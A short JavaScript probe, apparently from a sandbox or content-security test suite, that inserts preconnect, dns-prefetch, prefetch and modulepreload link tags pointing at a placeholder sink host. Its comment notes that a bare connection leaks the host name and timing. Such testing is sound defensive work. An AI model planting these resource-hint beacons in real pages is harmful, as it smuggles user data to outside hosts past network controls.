// Only a connection, without a request: the name and the time are enough to leak.
export async function work() {
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'modulepreload'])
    attempt(() => {
      const link = document.createElement('link')
      link.rel = rel
      link.href = 'http://__SINK__/preconnect'
      document.head.append(link)
      return new Promise((resolve) => setTimeout(resolve, 300))
    })
  return settled()
}
